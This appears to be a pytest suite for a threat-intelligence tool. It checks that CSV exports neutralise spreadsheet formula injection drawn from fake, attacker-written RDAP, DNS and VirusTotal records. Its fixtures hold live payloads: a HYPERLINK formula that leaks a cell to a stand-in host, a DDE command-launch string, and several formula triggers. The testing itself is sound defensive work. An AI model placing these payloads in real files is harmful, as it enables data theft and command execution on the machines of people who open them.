"""Exports under attacker-controlled data (issue 5, group 4): CSV cells are safe to open in a spreadsheet,
indicator values and numbers stay exact, and both exports give back exactly what the run found.

The upstream values come from fake sources defined here (no network) that answer like RDAP, DNS and
VirusTotal would if an attacker wrote the records: a network name ``=1+1``, a TXT record ``@SUM(1,1)``,
a tag ``+cmd``, text starting with TAB or CR. They run through the real :func:`otc.bulk.run_bulk`.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import math
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from otc.bulk import BulkResult, run_bulk
from otc.config import Mode, Settings
from otc.csvio import (
    FORMULA_TRIGGERS,
    cell_text,
    neutralize_cell,
    read_table,
    to_csv_bytes,
    to_json_bytes,
)
from otc.engine import Enricher
from otc.model import (
    HASH_KINDS,
    IP_KINDS,
    Contribution,
    Indicator,
    Kind,
    Location,
    SourceResult,
    Status,
)
from otc.sources.base import Source, SourceContext

BOM = codecs.BOM_UTF8
HYPERLINK = '=HYPERLINK("http://example.test/?leak="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


# -- fake upstreams that an attacker wrote ----------------------------------------------------------
class HostileRdap(Source):
    """RDAP-like: a network name, organisation and remarks chosen by whoever registered the block."""

    name = "fakerdap"
    title = "Fake RDAP"
    kinds = IP_KINDS | {Kind.DOMAIN}
    third_party = False  # runs in local-only mode, so the test needs no key and sends nothing

    def lookup(self, indicator: Indicator, ctx: SourceContext) -> SourceResult:
        return self.result(Status.OK, {
            "network_name": "=1+1",
            "org": "-2+3 Holdings",
            "abuse_email": "@SUM(1,1)",
            "remarks": "\tleading tab",
            "description": "\rleading carriage return",
            "names": [DDE, "second"],
            "hyperlink": HYPERLINK,
            "country": "US",
            "cidr": "8.8.8.0/24",
            "loopback_example": "::1",  # begins with ':' — not a formula, must stay exactly "::1"
            "asn": 15169,
            "utc_offset_hours": -3.5,  # a negative number: stays a number
            "delta": -7,
            "legit_dash": "-",  # '-' may begin ordinary text: neutralized like any text, given back exactly
            "registered": True,
        }, raw={"name": "=1+1"}, location=Location(37.751, -97.822, "United States", approximate=True))

    def score(self, fields: Mapping[str, Any], weights) -> list[Contribution]:
        return [Contribution(self.name, "name", 5.0, 5.0, f"+5 Fake RDAP: network name {fields['network_name']}")]


class HostileDns(Source):
    """DNS-like: TXT records are free text the domain's owner writes."""

    name = "fakedns"
    title = "Fake DNS"
    kinds = frozenset({Kind.DOMAIN, Kind.URL, Kind.EMAIL})
    third_party = False

    def lookup(self, indicator: Indicator, ctx: SourceContext) -> SourceResult:
        return self.result(Status.OK, {"txt": ["@SUM(1,1)", "v=spf1 -all"], "mx": ["+10 mail.example.test"],
                                       "spf": "v=spf1 -all"})


class HostileReputation(Source):
    """VirusTotal-like: vendor tags and labels come from third parties and from file names."""

    name = "fakevt"
    title = "Fake VT"
    kinds = HASH_KINDS | IP_KINDS | {Kind.URL, Kind.DOMAIN}
    third_party = False

    def lookup(self, indicator: Indicator, ctx: SourceContext) -> SourceResult:
        if indicator.kind in HASH_KINDS:
            return self.result(Status.OK, {"tags": ["+cmd", "trojan"], "label": "+cmd", "malicious": 12,
                                           "names": ["\tinvoice.pdf.exe", "@evil"], "rtl": "\u202eexe.pdf",
                                           "surrogate": "x\ud800y"})
        return self.result(Status.NOT_FOUND, message="=1+1 not in the fake dataset")

    def score(self, fields: Mapping[str, Any], weights) -> list[Contribution]:
        return [Contribution(self.name, "engines", 60.0, 60.0, f"+60 Fake VT: tag {fields['label']}")]


class HostileBroken(Source):
    """A service whose error text (shown as ``<source>_message``) is attacker-chosen."""

    name = "fakebroken"
    title = "Fake Broken"
    kinds = frozenset(Kind)
    third_party = False

    def lookup(self, indicator: Indicator, ctx: SourceContext) -> SourceResult:
        return self.result(Status.ERROR, message="@SUM(1,1) upstream said no")


HOSTILE_SOURCES = (HostileRdap, HostileDns, HostileReputation, HostileBroken)

# Indicators of every kind, written exactly as they should come out; none begins with = + - @ TAB CR.
INDICATORS = [
    "8.8.8.8", "2606:4700:4700::1111", "::ffff:8.8.4.4", "10.0.0.0/8", "example.com", "münchen.de",
    "https://example.com/login?next=-1&to=@home", "user@example.com", "44d88612fea8a8f36de82e1278abb02f",
    "3395856ce81f2b7382dee72602f798b642f14140",
    "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", "AS15169",
]
HOSTILE_INPUT_CELLS = ["=1+1", "-2+3", "+1+1", "@SUM(1,1)", "\tleading-tab", "\rleading-cr", DDE, HYPERLINK]


def upload_bytes() -> bytes:
    """An uploaded CSV: every kind of indicator, hostile comments, hostile rows, and a hostile header."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["indicator", "comment", HYPERLINK])
    for n, value in enumerate(INDICATORS):
        writer.writerow([value, HOSTILE_INPUT_CELLS[n % len(HOSTILE_INPUT_CELLS)], "-5"])
    for value in HOSTILE_INPUT_CELLS:
        writer.writerow([value, "hostile indicator cell", "=0"])
    return buffer.getvalue().encode("utf-8")


@pytest.fixture
def hostile_result() -> BulkResult:
    table = read_table(upload_bytes(), "hostile.csv")
    enricher = Enricher(Settings(mode=Mode.LOCAL), sources=[cls() for cls in HOSTILE_SOURCES])
    return run_bulk(table, "indicator", enricher)


def csv_text_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def csv_typed_cells(data: bytes) -> list[list[Any]]:
    """The same cells, with unquoted ones read as numbers (how a spreadsheet tells numbers from text)."""
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline=""), quoting=csv.QUOTE_NONNUMERIC))


def is_number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def exported_text(value: Any) -> str:
    """What the CSV export must hold for a text value: the text (a lone surrogate, which UTF-8 cannot hold,
    as U+FFFD), with ``'`` in front exactly when it begins with a formula trigger."""
    text = cell_text(value).replace("\ud800", "\ufffd")
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def strip_neutralizing_prefix(cell: str, value: Any) -> str:
    """Undo the export's neutralization where the export added it (and only there)."""
    return cell[1:] if cell_text(value).startswith(FORMULA_TRIGGERS) else cell


# -- group 4: every text cell neutralized, including upstream values -------------------------------------
def test_CSV_05_no_cell_of_the_export_begins_with_a_formula_trigger(hostile_result):
    cells = csv_text_cells(hostile_result.to_csv())
    assert len(cells) == 1 + len(INDICATORS) + len(HOSTILE_INPUT_CELLS)
    # Text cells are the quoted ones; unquoted cells are numbers ("-97.822"), which no spreadsheet runs.
    typed = csv_typed_cells(hostile_result.to_csv())
    dangerous = [(r, c, cell) for r, row in enumerate(typed) for c, cell in enumerate(row)
                 if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS)]
    assert dangerous == []
    numbers = {cell for row in typed for cell in row if not isinstance(cell, str)}
    assert {-97.822, -3.5, -7.0} <= numbers
    # ...and the hostile values really were there to neutralize (the test cannot pass by being empty).
    flat = {cell for row in cells for cell in row}
    assert {"'=1+1", "'-2+3 Holdings", "'@SUM(1,1)", "'\tleading tab", "'\rleading carriage return",
            f"'{DDE}, second", f"'{HYPERLINK}", "'@SUM(1,1), v=spf1 -all", "'+10 mail.example.test",
            "'+cmd, trojan", "'+cmd", "'\tinvoice.pdf.exe, @evil", "'-", "'@SUM(1,1) upstream said no",
            "'=1+1 not in the fake dataset", "'-5", "'=0"} <= flat


@pytest.mark.parametrize(
    ("column", "exported"),
    [
        ("fakerdap_network_name", "'=1+1"),  # an RDAP network/organisation name
        ("fakerdap_org", "'-2+3 Holdings"),
        ("fakerdap_abuse_email", "'@SUM(1,1)"),
        ("fakerdap_remarks", "'\tleading tab"),
        ("fakerdap_description", "'\rleading carriage return"),
        ("fakerdap_names", f"'{DDE}, second"),  # a list becomes one cell, neutralized as a whole
        ("fakerdap_hyperlink", f"'{HYPERLINK}"),
        ("fakedns_txt", "'@SUM(1,1), v=spf1 -all"),  # a DNS TXT record
        ("fakedns_mx", "'+10 mail.example.test"),
        ("fakerdap_loopback_example", "::1"),  # not a trigger: exact
        ("fakerdap_legit_dash", "'-"),
        ("fakerdap_registered", "true"),
        ("fakebroken_message", "'@SUM(1,1) upstream said no"),  # error text from upstream
        ("otc_reasons", "'+5 Fake RDAP: network name =1+1"),  # score reasons quote upstream text
        ("comment", "'-2+3"),  # the analyst's own cells too
    ],
    ids=["CSV-05-rdap-name", "CSV-05-rdap-org-minus", "CSV-05-rdap-at", "CSV-05-tab", "CSV-05-cr",
         "CSV-05-list-dde", "CSV-05-hyperlink", "CSV-05-dns-txt", "CSV-05-dns-mx-plus", "CSV-05-ipv6-like-exact",
         "CSV-05-lone-dash", "CSV-05-boolean", "CSV-05-upstream-message", "CSV-05-reasons", "CSV-05-input-cell"],
)
def test_CSV_05_upstream_and_input_text_is_neutralized_in_its_column(hostile_result, column, exported):
    cells = csv_text_cells(hostile_result.to_csv())
    header = cells[0]
    ip_row = cells[1 + INDICATORS.index("2606:4700:4700::1111")]  # comment "-2+3", RDAP and broken answered
    if column.startswith("fakedns"):
        ip_row = cells[1 + INDICATORS.index("example.com")]
    assert ip_row[header.index(column)] == exported


def test_CSV_05_vt_tag_plus_cmd_is_neutralized(hostile_result):
    cells = csv_text_cells(hostile_result.to_csv())
    row = cells[1 + INDICATORS.index("44d88612fea8a8f36de82e1278abb02f")]
    header = cells[0]
    assert row[header.index("fakevt_tags")] == "'+cmd, trojan"
    assert row[header.index("fakevt_label")] == "'+cmd"
    assert row[header.index("fakevt_names")] == "'\tinvoice.pdf.exe, @evil"
    assert row[header.index("fakevt_rtl")] == "\u202eexe.pdf"  # shown as is: the page, not the CSV, reveals it
    assert row[header.index("fakevt_surrogate")] == "x\ufffdy"  # UTF-8 cannot hold a lone surrogate


def test_CSV_05_hostile_input_header_is_neutralized(hostile_result):
    header = csv_text_cells(hostile_result.to_csv())[0]
    assert header[:3] == ["indicator", "comment", "'" + HYPERLINK]
    assert hostile_result.columns[2] == HYPERLINK  # neutralized only in the file, not in the data


def test_CSV_05_indicator_values_stay_exact(hostile_result):
    cells = csv_text_cells(hostile_result.to_csv())
    header = cells[0]
    rows = cells[1:1 + len(INDICATORS)]
    assert [row[header.index("indicator")] for row in rows] == INDICATORS
    assert [r["otc_row_status"] for r in hostile_result.records[:len(INDICATORS)]] == ["ok"] * len(INDICATORS)
    # The normalized value and display form come out as the records hold them, unprefixed.
    for row, record in zip(rows, hostile_result.records):
        assert row[header.index("otc_indicator")] == record["otc_indicator"]
        assert row[header.index("otc_display")] == record["otc_display"]
        assert not row[header.index("otc_indicator")].startswith("'")
    by_input = {row[header.index("indicator")]: row for row in rows}
    assert by_input["::ffff:8.8.4.4"][header.index("otc_indicator")] == "8.8.4.4"
    assert by_input["münchen.de"][header.index("otc_indicator")] == "xn--mnchen-3ya.de"
    assert by_input["münchen.de"][header.index("otc_display")] == "münchen.de"
    assert by_input["https://example.com/login?next=-1&to=@home"][header.index("otc_indicator")] == (
        "https://example.com/login?next=-1&to=@home")


def test_CSV_05_negative_numbers_stay_numbers(hostile_result):
    typed = csv_typed_cells(hostile_result.to_csv())
    header = typed[0]
    row = typed[1]  # 8.8.8.8
    assert row[header.index("fakerdap_utc_offset_hours")] == -3.5
    assert row[header.index("fakerdap_delta")] == -7.0
    assert row[header.index("otc_longitude")] == -97.822
    assert row[header.index("fakerdap_asn")] == 15169.0
    assert row[header.index("otc_score")] == 5.0
    raw_line = hostile_result.to_csv()[len(BOM):].decode("utf-8").split("\r\n")[1]
    assert ",-3.5," in raw_line and ",-7," in raw_line and ",-97.822," in raw_line  # unquoted: numbers


# -- round trips ------------------------------------------------------------------------------------------
def test_csv_export_round_trips_every_record(hostile_result):
    text_cells = csv_text_cells(hostile_result.to_csv())
    typed_cells = csv_typed_cells(hostile_result.to_csv())
    assert [c.removeprefix("'") if c.startswith("'=") else c for c in text_cells[0]] == hostile_result.columns
    assert len(text_cells) - 1 == len(hostile_result.records)
    for record, texts, typed in zip(hostile_result.records, text_cells[1:], typed_cells[1:]):
        assert len(texts) == len(hostile_result.columns)
        for column, text, cell in zip(hostile_result.columns, texts, typed):
            value = record[column]
            if is_number(value):
                assert cell == float(value), column  # unquoted number
                assert text == str(value), column  # and exactly its digits
            else:
                assert isinstance(cell, str), column  # quoted text
                assert text == exported_text(value), column
                expected = "" if value is None else cell_text(value).replace("\ud800", "\ufffd")
                assert strip_neutralizing_prefix(text, value) == expected, column


def test_json_export_round_trips_exactly(hostile_result):
    records = json.loads(hostile_result.to_json())
    assert records == hostile_result.records
    first = records[0]
    assert first["fakerdap_network_name"] == "=1+1"  # JSON is not neutralized: the value as found
    assert first["fakerdap_utc_offset_hours"] == -3.5
    hash_row = records[INDICATORS.index("44d88612fea8a8f36de82e1278abb02f")]
    assert hash_row["fakevt_surrogate"] == "x\ud800y"  # escaped in the file, exact after parsing


def test_exports_of_a_run_with_no_rows_are_valid():
    empty = BulkResult.build(read_table(b"indicator\n8.8.8.8\n"), "indicator", [], {}, [])
    assert csv_text_cells(empty.to_csv()) == [empty.columns]
    assert empty.columns[:2] == ["indicator", "otc_row_status"]
    assert json.loads(empty.to_json()) == []


# -- property: any record survives both exports ------------------------------------------------------------
TRIGGER_TEXT = st.builds(lambda trigger, rest: trigger + rest, st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=20))
CELL_VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**53), max_value=2**53),
    st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=30), TRIGGER_TEXT,
)
RECORDS = st.integers(min_value=1, max_value=5).flatmap(
    lambda width: st.lists(st.lists(CELL_VALUES, min_size=width, max_size=width), max_size=8).map(
        lambda rows: ([f"c{n}" for n in range(width)], [dict(zip([f"c{n}" for n in range(width)], r)) for r in rows])
    )
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(RECORDS)
def test_CSV_05_property_any_value_is_neutralized_and_round_trips(table):
    columns, records = table
    data = to_csv_bytes(columns, records)
    texts = csv_text_cells(data)
    typed = csv_typed_cells(data)
    assert texts[0] == columns
    assert len(texts) == len(records) + 1
    for record, text_row, typed_row in zip(records, texts[1:], typed[1:]):
        for column, text, cell in zip(columns, text_row, typed_row):
            value = record[column]
            if is_number(value):
                assert cell == float(value)  # unquoted: read back as a number
                assert text == repr(value)  # every digit kept (repr of a float round-trips)
            else:
                assert isinstance(cell, str) and not text.startswith(FORMULA_TRIGGERS)
                assert strip_neutralizing_prefix(text, value) == cell_text(value)
    assert json.loads(to_json_bytes(records)) == records


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_neutralize_cell_prefixes_exactly_the_trigger_cells(text):
    neutralized = neutralize_cell(text)
    if text.startswith(FORMULA_TRIGGERS):
        assert neutralized == "'" + text
    else:
        assert neutralized == text


def test_non_finite_numbers_are_written_as_text_or_null():
    data = to_csv_bytes(["a", "b"], [[math.inf, math.nan]])
    assert csv_text_cells(data)[1] == ["inf", ""]
    assert json.loads(to_json_bytes([{"a": math.inf, "b": math.nan}])) == [{"a": None, "b": None}]
